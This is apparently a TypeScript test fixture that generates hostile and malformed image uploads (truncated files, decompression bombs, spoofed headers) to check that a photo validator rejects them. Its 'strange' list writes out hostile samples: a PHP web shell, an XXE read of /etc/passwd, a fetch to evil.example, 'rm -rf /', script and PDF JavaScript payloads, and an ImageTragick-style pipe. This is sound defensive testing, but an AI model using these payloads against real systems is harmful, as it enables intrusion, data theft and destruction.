import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { PhotoProblem } from '../src/platform/images/photo-rule.ts'
import { heicPhoto, photo } from './photos.ts'

export type Hostile = { name: string; bytes: Uint8Array; problem: PhotoProblem | PhotoProblem[] }

/** A PNG chunk with a correct checksum, so that it is read. */
export function chunk(type: string, content: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
  const ends = Buffer.alloc(8)
  ends.writeUInt32BE(content.length, 0)
  ends.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
}

const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')

/** A PNG of one color with this size in its header; it has as many pixel rows as `rows`. */
export function png(
  width: number,
  height: number,
  rows: Uint8Array,
  before: Buffer[] = [],
): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 0, 0, 0, 0], 8)
  const pixels = chunk('IDAT', rows)
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    ...before,
    pixels,
    chunk('IEND', Buffer.alloc(0)),
  ])
}

export const rowsOf = (width: number, height: number) =>
  deflateSync(Buffer.alloc((width + 1) * height))

/** A JPEG header with another size. */
export function resized(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg)
  const frame = [0xc0, 0xc2]
    .map((kind) => copy.indexOf(Buffer.from([0xff, kind])))
    .find((at) => at > 0)
  copy.writeUInt16BE(height, (frame ?? 0) + 5)
  copy.writeUInt16BE(width, (frame ?? 0) + 7)
  return copy
}

/** More than 200 files that are no photos, or invalid ones, in accepted and other formats. */
export async function hostilePhotos(): Promise<Hostile[]> {
  const jpeg = await photo('#b5431e')
  const common = {
    jpg: jpeg,
    png: await sharp(jpeg).png().toBuffer(),
    webp: await sharp(jpeg).webp().toBuffer(),
    avif: await sharp(jpeg).avif({ effort: 0 }).toBuffer(),
    heic: await heicPhoto(),
  }
  const files: Hostile[] = []
  const put = (name: string, bytes: Uint8Array | string, ...problems: PhotoProblem[]) =>
    files.push({ name, bytes: Buffer.from(bytes), problem: problems })

  put('nothing.jpg', '', 'empty')
  put('large.jpg', Buffer.concat([jpeg, Buffer.alloc(15 * 1024 ** 2)]), 'too large')

  // Truncated: a few bytes of the header, and regular fractions of the file.
  for (const [ending, bytes] of Object.entries(common)) {
    for (const length of [13, 16, 40])
      put(`head-${length}.${ending}`, bytes.subarray(0, length), 'damaged', 'no photo')
    for (let part = 1; part <= 12; part++) {
      const length = Math.round((bytes.length * part) / 13)
      put(`cut-${part}.${ending}`, bytes.subarray(0, length), 'damaged', 'too small')
    }
    // A WebP decoder turns zeros into a gray picture.
    if (ending !== 'webp')
      put(`wiped.${ending}`, Buffer.concat([bytes.subarray(0, 32), Buffer.alloc(5000)]), 'damaged')
    const noise = Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 7919 + 13) % 251))
    put(`noise.${ending}`, Buffer.concat([bytes.subarray(0, 24), noise]), 'damaged', 'no photo')
  }

  // Other files with names of photos.
  const strange: Record<string, string> = {
    svg: '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>alert(1)</script></svg>',
    'svg with a prolog':
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    'svg with a link':
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:1/x"/></svg>',
    html: '<!doctype html><script>fetch("//evil.example")</script>',
    'html after a comment': '<!--\xff\xd8\xff--><script>alert(1)</script>',
    pdf: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>endobj',
    'pdf with a jpeg inside': `%PDF-1.7\n${jpeg.toString('latin1')}`,
    zip: 'PK\x03\x04\x14\x00\x00\x00\x08\x00',
    gif: 'GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
    'gif that is script': 'GIF89a/*\x00*/=1;alert(1)//',
    bmp: 'BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00',
    tiff: 'II*\x00\x08\x00\x00\x00',
    'big tiff': 'MM\x00+\x00\x08\x00\x00',
    ico: '\x00\x00\x01\x00\x01\x00',
    psd: '8BPS\x00\x01',
    jxl: '\xff\x0a\xfa\x00',
    jp2: '\x00\x00\x00\x0cjP  \r\n\x87\n',
    mp4: '\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom',
    mov: '\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ',
    'a box that says nothing': '\x00\x00\x00\x08ftyp',
    'a box as long as it can be': '\xff\xff\xff\xffftypmif1\x00\x00\x00\x00mif1',
    exe: 'MZ\x90\x00\x03\x00',
    elf: '\x7fELF\x02\x01\x01',
    shell: '#!/bin/sh\nrm -rf /\n',
    php: '<?php system($_GET["c"]); ?>',
    mvg: 'push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 "|ls"\npop graphic-context',
    eps: '%!PS-Adobe-3.0\n%%BoundingBox: 0 0 9 9\n(file) run',
    'riff that is sound': 'RIFF\x24\x00\x00\x00WAVEfmt ',
    words: 'dear diary, this is no photo at all',
    zeros: '\0'.repeat(4096),
    'one byte': '\xff',
    'two bytes': '\xff\xd8',
    xml: '<?xml version="1.0"?><a/>',
    json: '{"photo":true}',
    csv: 'a,b\n1,2\n',
  }
  for (const [name, text] of Object.entries(strange))
    for (const ending of ['jpg', 'png'])
      put(`${name}.${ending}`, Buffer.from(text, 'latin1'), 'no photo')

  // Only the header of a photo, followed by something else.
  const behind = [
    '<script>alert(1)</script>',
    '<?php echo 1 ?>',
    'PK\x03\x04',
    '%PDF-1.7',
    'MZ\x90',
  ]
  const heads = {
    jpg: Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    png: signature,
    webp: Buffer.from('RIFF\x40\x00\x00\x00WEBPVP8 ', 'latin1'),
    avif: Buffer.from('\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1', 'latin1'),
    heic: Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1', 'latin1'),
  }
  for (const [ending, head] of Object.entries(heads))
    for (const [at, text] of behind.entries())
      put(`head and ${at}.${ending}`, Buffer.concat([head, Buffer.from(text, 'latin1')]), 'damaged')

  // Bombs: many pixels in few bytes, or a header that claims them.
  for (const [width, height] of [
    [10_000, 10_000],
    [50_001, 1000],
    [7072, 7072],
    [8000, 6251],
    [65_000, 60_000],
  ] as const)
    put(`${width} by ${height}.png`, png(width, height, rowsOf(200, 200)), 'too many pixels')
  put('100 megapixels.png', png(10_000, 10_000, rowsOf(10_000, 10_000)), 'too many pixels')
  for (const [width, height] of [
    [65_500, 65_500],
    [10_000, 10_000],
    [60_000, 60_000],
  ] as const)
    put(`${width} by ${height}.jpg`, resized(jpeg, width, height), 'too many pixels')
  put('no rows.png', png(800, 600, Buffer.alloc(0)), 'damaged')
  put('half of its rows.png', png(800, 600, rowsOf(800, 300)), 'damaged')
  const bomb = deflateSync(Buffer.alloc(60_000_000))
  const profile = Buffer.concat([Buffer.from('a\0\0', 'latin1'), bomb])
  put(
    'profile bomb, no rows.png',
    png(800, 600, Buffer.alloc(0), [chunk('iCCP', profile)]),
    'damaged',
  )
  const words = Buffer.concat([Buffer.from('a\0\0', 'latin1'), bomb])
  const many = Array.from({ length: 50 }, () => chunk('zTXt', words))
  put('text bombs, no rows.png', png(800, 600, Buffer.alloc(0), many), 'damaged')
  put(
    'huge chunk, no rows.png',
    png(800, 600, Buffer.alloc(0), [chunk('teXt', Buffer.alloc(14_000_000))]),
    'damaged',
  )
  put('no size.png', png(0, 0, rowsOf(1, 1)), 'damaged')
  put('below no size.png', png(0x80_00_00_01, 600, rowsOf(1, 1)), 'damaged', 'too many pixels')

  // Too small, too narrow, or animated.
  for (const side of [1, 2, 16, 199])
    put(`${side}.png`, png(side, side, rowsOf(side, side)), 'too small')
  put('thread.png', png(200, 2001, rowsOf(200, 2001)), 'too narrow')
  put(
    'thread.jpg',
    await sharp(common.png).resize({ width: 3000, height: 210, fit: 'fill' }).jpeg().toBuffer(),
    'too narrow',
  )
  const control = chunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))
  put('moves.png', png(400, 400, rowsOf(400, 400), [control]), 'moves')
  const frames = await sharp(
    await sharp(common.png).extend({ bottom: 600, background: '#123456' }).raw().toBuffer(),
    {
      raw: { width: 800, height: 1200, channels: 3, pageHeight: 600 },
    },
  )
    .webp({ loop: 0, delay: [100, 100] })
    .toBuffer()
  put('moves.webp', frames, 'moves')
  return files
}
